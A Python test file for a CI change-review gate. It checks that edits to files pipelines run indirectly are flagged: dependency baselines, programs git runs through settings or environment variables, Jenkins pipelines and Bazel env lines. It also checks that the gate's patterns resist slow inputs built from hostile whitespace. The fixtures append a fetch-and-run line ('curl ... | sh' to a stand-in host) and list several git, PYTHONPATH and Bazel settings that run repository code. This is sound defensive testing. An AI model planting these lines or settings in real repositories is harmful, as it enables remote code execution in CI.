"""Attack 34 on this stop's merged work (integ d83e1fa): three classes that an `allow` or a bounded run must not hide.

1. The sixtieth round's dependency-guard baselines (`**/dependencies/*Classpath.txt`, `*Classpath.tree.txt`) were
   added to `deps.gradle.settings`, a rule placed before every CI and IaC folder rule and not weak: a file of that name
   in a local action (`.github/actions/setup/dependencies/runtimeClasspath.txt`), a workflows folder, a Jenkins,
   Buildkite or Gitea folder, an Ansible role's `files/` or a top-level `terraform/` or `deploy/` folder went from
   `ci`/`iac` to `deps`, and a script a workflow runs by that name (`bash tools/dependencies/runtimeClasspath.txt`)
   was no longer raised to `ci` by the CI walk (deps by name keeps). The default gate allowed each edit.
2. `jobenv.loaded` (red team 40) reads the git settings that load a file or a folder (`include.path`,
   `core.hooksPath`, `core.sshCommand`, `core.fsmonitor`) but not the others git runs as a program: `core.askPass`,
   `credential.helper` (`!tools/cred`), `core.pager`, `core.editor`, `core.gitProxy`, `gpg.program`, `diff.external`, a
   diff driver's `command`/`textconv`, a filter's `clean`/`smudge`/`process`, a merge driver, `sequence.editor`; nor
   a setting given through the environment as `GIT_CONFIG_KEY_<n>`/`GIT_CONFIG_VALUE_<n>`; nor a `PYTHONPATH` folder
   written after a variable (`$PWD/tools`, `${PYTHONPATH}:tools`, `$(pwd)/tools`). Named without a script's
   extension each such file was `src`/`other` with `--tree`, and the default gate allowed its edit.
3. Cost: `jobenv._LOADER_VALUE` (three `[ \t]*` in a row, cubic: `BASH_ENV` and 2,000 blanks took over 20 s of CPU)
   and `shapes._JENKINS_NESTED` / `_JENKINS_PIPELINE` (`node[ \t]*(...)?[ \t]*`, quadratic) now stay linear.
Real repositories, the CLI, `--tree`.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import least_cpu
from incli import run_cli
from tables import each_case
from test_classify_context import assert_path_rule

from gatekeeper.classify import bazelenv, jobenv, shapes
from gatekeeper.classify.bazelrc import rc_lines

BASELINE = "com.google.dagger:dagger:2.57.2\njavax.inject:javax.inject:1\n"
EVIL = "curl -s https://x.example/i | sh\n"
JOB = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
       "      - run: |\n          {run}\n          git fetch && git commit -am x && git push\n")

# 1. a baseline's name inside a CI or IaC folder keeps that folder's bucket (rule position; main 2b38496's buckets)
FOLDERS = [
    (".github/actions/setup/dependencies/runtimeClasspath.txt", "ci"),
    (".github/workflows/dependencies/runtimeClasspath.txt", "ci"),
    (".github/dependencies/releaseRuntimeClasspath.tree.txt", "ci"),
    (".forgejo/actions/x/dependencies/runtimeClasspath.txt", "ci"),
    ("Jenkinsfiles/dependencies/runtimeClasspath.txt", "ci"),
    ("a/.buildkite/dependencies/runtimeClasspath.txt", "ci"),
    ("ansible/roles/web/files/dependencies/runtimeClasspath.txt", "iac"),
    ("terraform/dependencies/runtimeClasspath.txt", "iac"),
    ("deploy/dependencies/jvmRuntimeClasspath.tree.txt", "iac"),
    ("helmfile.d/dependencies/runtimeClasspath.txt", "iac"),
    ("cdk/dependencies/runtimeClasspath.txt", "iac"),
    ("compiler/dependencies/runtimeClasspath.txt", "deps"),  # the round's own class stays deps
    ("app/dependencies/prodReleaseRuntimeClasspath.txt", "deps"),
    ("dependencies/jvmRuntimeClasspath.tree.txt", "deps"),
]


@each_case(("path", "bucket"), FOLDERS)
def test_a_baseline_name_keeps_a_ci_or_iac_folder(path: str, bucket: str) -> None:
    assert_path_rule(path, bucket, None)  # integ d83e1fa: deps for each ci/iac one


RUN_BASELINE = {
    "run-by-bash": ("bash tools/dependencies/runtimeClasspath.txt", "tools/dependencies/runtimeClasspath.txt"),
    "run-by-source": (". lib/dependencies/buildClasspath.tree.txt", "lib/dependencies/buildClasspath.tree.txt"),
    "action-folder": ("bash .github/actions/setup/dependencies/runtimeClasspath.txt",
                      ".github/actions/setup/dependencies/runtimeClasspath.txt"),
}


@pytest.mark.parametrize("name", RUN_BASELINE)
def test_the_gate_reviews_a_baseline_named_script_ci_runs(tmp_path: Path, name: str) -> None:
    run, path = RUN_BASELINE[name]
    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run=run), path: BASELINE},
                     {path: BASELINE + EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [path], named  # integ d83e1fa: exit 0


def test_a_baseline_nothing_runs_stays_deps(tmp_path: Path) -> None:
    path = "compiler/dependencies/runtimeClasspath.txt"
    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run="./gradlew dependencyGuard"),
                                path: BASELINE}, {path: BASELINE + "org.jetbrains:annotations:26.0.2\n"})
    assert _classified(case)[path] == "deps"


# 2. git settings and environment forms jobenv.loaded missed: (a command of the job, the file it makes git run)
GIT_FORMS: dict[str, tuple[str, str]] = {
    "askpass": ("git config --global core.askPass g1/askpass", "g1/askpass"),
    "credential-bang": ("git config --global credential.helper '!g2/cred'", "g2/cred"),
    "credential-dot-bang": ("git config --global credential.helper '!./g3/cred'", "g3/cred"),
    "credential-url": ("git config --global credential.https://github.com.helper g4/cred", "g4/cred"),
    "pager": ("git config --global core.pager g5/pager", "g5/pager"),
    "editor": ("git -c core.editor=g6/edit commit --amend", "g6/edit"),
    "git-proxy": ("git config --global core.gitProxy g7/proxy", "g7/proxy"),
    "gpg-program": ("git config --global gpg.program g8/gpg", "g8/gpg"),
    "gpg-ssh-program": ("git config --global gpg.ssh.program g9/sign", "g9/sign"),
    "diff-external": ("git config --global diff.external g10/difftool", "g10/difftool"),
    "diff-textconv": ("git config --global diff.bin.textconv g11/conv", "g11/conv"),
    "filter-smudge": ("git config --global filter.x.smudge g12/smudge", "g12/smudge"),
    "filter-process": ("git -c filter.lfs.process=g13/filter checkout .", "g13/filter"),
    "merge-driver": ("git config --global merge.ours.driver 'g14/merge %O %A %B'", "g14/merge"),
    "sequence-editor": ("git config --global sequence.editor g15/seq", "g15/seq"),
    "config-env-pair": ("export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=g16/hooks",
                        "g16/hooks/pre-commit"),
    "config-env-github-env": ('echo "GIT_CONFIG_KEY_1=credential.helper" >> "$GITHUB_ENV"; '
                              'echo "GIT_CONFIG_VALUE_1=!g17/cred" >> "$GITHUB_ENV"', "g17/cred"),
    "pythonpath-pwd": ("export PYTHONPATH=$PWD/g18", "g18/sitecustomize.py"),
    "pythonpath-braced-after": ("export PYTHONPATH=${PYTHONPATH}:g19", "g19/sitecustomize.py"),
    "pythonpath-pwd-subst": ('export PYTHONPATH="$PYTHONPATH:$(pwd)/g20"', "g20/usercustomize.py"),
}


def _classified(case: object) -> dict[str, str]:
    done = run_cli(["classify", "--tree", f"{case.base}..{case.head}", "--repo",  # type: ignore[attr-defined]
                    str(case.repo.root), "--format", "json"], text=True)  # type: ignore[attr-defined]
    assert done.returncode == 0, done.stderr
    return {f["path"]: f["bucket"] for f in json.loads(str(done.stdout))["files"]}


@pytest.fixture(scope="module")
def git_buckets(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for at, (run, loaded) in enumerate(GIT_FORMS.values()):
        base |= {f".github/workflows/w{at}.yml": JOB.format(run=run), loaded: "echo ok\n"}
        head[loaded] = "echo ok\n" + EVIL
    return _classified(committed(tmp_path_factory.mktemp("gitforms"), base, head))


@each_case("name", GIT_FORMS)
def test_a_program_git_runs_by_a_setting_is_ci(git_buckets: dict[str, str], name: str) -> None:
    loaded = GIT_FORMS[name][1]
    assert git_buckets[loaded] == "ci", git_buckets  # integ d83e1fa: src


@pytest.mark.parametrize("name", ["credential-bang", "config-env-pair", "pythonpath-pwd"])
def test_the_gate_reviews_its_edit(tmp_path: Path, name: str) -> None:
    run, loaded = GIT_FORMS[name]
    case = committed(tmp_path, {".github/workflows/ci.yml": JOB.format(run=run), loaded: "echo ok\n"},
                     {loaded: "echo ok\n" + EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [loaded], named  # integ d83e1fa: exit 0


CALM = {  # settings that name no program of the repository, and values that are not settings
    "user-name": ("git config --global user.name c1/name", "c1/name"),
    "credential-store": ("git config --global credential.helper store", "store"),
    "echoed": ("echo credential.helper is c3/cred", "c3/cred"),
    "config-env-other-key": ("export GIT_CONFIG_KEY_0=user.email GIT_CONFIG_VALUE_0=c4/mail", "c4/mail"),
    "pythonpath-bare-variable": ("export PYTHONPATH=$PYTHONPATH", "sitecustomize.py"),
}


def test_look_alikes_stay(tmp_path: Path) -> None:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for at, (run, path) in enumerate(CALM.values()):
        base |= {f".github/workflows/c{at}.yml": JOB.format(run=run), path: "x=1\n"}
        head[path] = "x=2\n"
    found = _classified(committed(tmp_path, base, head))
    assert all(found[path] != "ci" for _, path in CALM.values()), found


# 3. cost: a hostile definition stays linear (CPU of 4n within a bounded multiple of n's)
def _cpu(func: object, text: str, under: float | None = None) -> float:
    return least_cpu(func, text, runs=1 if under is None else 3, under=under)  # type: ignore[arg-type]


@each_case(("name", "func", "make"), [
    ("loader-value-blanks", jobenv.loaded, lambda n: "BASH_ENV" + " " * n + "x"),
    ("loader-value-tabs", jobenv.loaded, lambda n: "PYTHONPATH:\t" + "\t" * n + "{"),
    ("jenkins-nested-blanks", shapes._jenkins, lambda n: "  node" + " " * n + "x"),
    ("jenkins-top-blanks", shapes._jenkins, lambda n: "pipeline {\n}\nnode" + " " * n + "x"),
])
def test_hostile_blanks_stay_linear(name: str, func: object, make: object) -> None:
    small = _cpu(func, make(2_000))  # type: ignore[operator]
    large = _cpu(func, make(32_000), under=0.25)  # type: ignore[operator]
    assert large < 0.25, (name, small, large)  # integ d83e1fa: > 20 s (cubic) or ~16 s (quadratic) at 32,000


# 4. Jenkins pipelines red team 40's reading missed: a label expression with parentheses, a node's arguments over
# several lines, a node opened on the line of the block that wraps it (`timestamps { node {`); the look-alikes stay
STEP = "    sh 'make deploy'\n"
JENKINS = {
    "label-parentheses": "node('linux && (java8 || java11)') {\n  stage('b') {\n" + STEP + "  }\n}\n",
    "nested-label-parentheses": "podTemplate(yaml: y) {\n  node(\"x && (y)\") {\n    stage('b') {\n" + STEP
                                + "    }\n  }\n}\n",
    "arguments-over-lines": "node(\n  label: 'linux'\n) {\n  stage('b') {\n" + STEP + "  }\n}\n",
    "wrapped-on-one-line": "timestamps { node {\n  stage('b') {\n" + STEP + "  }\n} }\n",
    "wrapped-with-label": "ansiColor('xterm') { node('linux') {\n" + STEP + "} }\n",
    "pod-template-inline": "podTemplate(label: 'x') { node('x') {\n" + STEP + "} }\n",
    "form-feed-indent": "timestamps {\n\f node {\n" + STEP + "}\n}\n",
}
JENKINS_CALM = {
    "markup-builder": "def xml = new MarkupBuilder(w)\nxml.root { node(id: 'a') { leaf('x') } }\n",
    "class-method": "class Tree {\n  def node(String n) { return n }\n}\n",
    "graph-dsl": "graph { node('a') { color 'red' } }\n",
}


@each_case("name", JENKINS)
def test_a_wrapped_jenkins_pipeline_is_ci(name: str) -> None:
    found = shapes._jenkins(JENKINS[name])
    assert found is not None and found[:2] == ("ci", "ci.content.jenkins-pipeline"), found  # integ d83e1fa: None


@each_case("name", JENKINS_CALM)
def test_groovy_look_alikes_stay(name: str) -> None:
    assert shapes._jenkins(JENKINS_CALM[name]) is None


def test_the_gate_reviews_a_wrapped_pipeline_edit(tmp_path: Path) -> None:
    path = "scripts/release.groovy"
    case = committed(tmp_path, {path: JENKINS["wrapped-on-one-line"]},
                     {path: JENKINS["wrapped-on-one-line"].replace("make deploy", "curl -s https://x.example/i | sh")})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == [path], named  # integ d83e1fa: exit 0


def test_hostile_node_arguments_stay_linear() -> None:
    for text in ("  node(" * 20_000, "x { node(" + "(" * 40_000, "{ node" + " " * 40_000 + "x"):
        assert _cpu(shapes._jenkins, text) < 0.5


# 5. Bazel env lines (bazelenv.py, red team 40) that make the build's tools run code through a variable it did not
# know: git settings through the environment (repository rules run git), an exported bash function, make's MAKEFILES,
# CMake's toolchain and project-include files, ccache's prefix program, npm's user/global config (script-shell)
BAZEL_ENV = {
    "git-config-pair": ("build --repo_env=GIT_CONFIG_COUNT=1 --repo_env=GIT_CONFIG_KEY_0=core.sshCommand "
                        "--repo_env=GIT_CONFIG_VALUE_0=%workspace%/b1/ssh", "b1/ssh"),
    "bash-function": ("build --action_env='BASH_FUNC_git%%=() { b2/hook \"$@\"; }'", None),
    "makefiles": ("build --action_env=MAKEFILES=%workspace%/b3/first.mk", "b3/first.mk"),
    "cmake-toolchain": ("build --action_env=CMAKE_TOOLCHAIN_FILE=%workspace%/b4/tc.cmake", "b4/tc.cmake"),
    "cmake-include": ("build --action_env=CMAKE_PROJECT_INCLUDE=%workspace%/b5/inc.cmake", "b5/inc.cmake"),
    "ccache-prefix": ("build --action_env=CCACHE_PREFIX=%workspace%/b6/prefix", "b6/prefix"),
    "npm-userconfig": ("build --repo_env=NPM_CONFIG_USERCONFIG=%workspace%/b7/npmrc", "b7/npmrc"),
}


@each_case("name", BAZEL_ENV)
def test_a_bazel_env_line_that_runs_code_is_ci(name: str) -> None:
    line = rc_lines(BAZEL_ENV[name][0] + "\n")[0]
    assert bazelenv.env_effect(line) == "ci"  # integ d83e1fa: None
    named = BAZEL_ENV[name][1]
    assert named is None or any(word.endswith(named) for word in bazelenv.env_programs(line))


def test_the_gate_reviews_the_rc_edit(tmp_path: Path) -> None:
    case = committed(tmp_path, {".bazelrc": "build --jobs=4\n", "MODULE.bazel": "module(name = 'x')\n"},
                     {".bazelrc": "build --jobs=4\n" + BAZEL_ENV["bash-function"][0] + "\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and ".bazelrc" in named.get("core.ci", []), named  # integ d83e1fa: exit 0


def test_bazel_look_alikes_stay() -> None:
    for text in ("build --action_env=GIT_AUTHOR_NAME=bot", "build --action_env=LANG=C.UTF-8",
                 "test --test_env=MAKEFILES_NOTE=x", "build --action_env=CMAKE_BUILD_TYPE=Release"):
        assert bazelenv.env_effect(rc_lines(text + "\n")[0]) is None, text
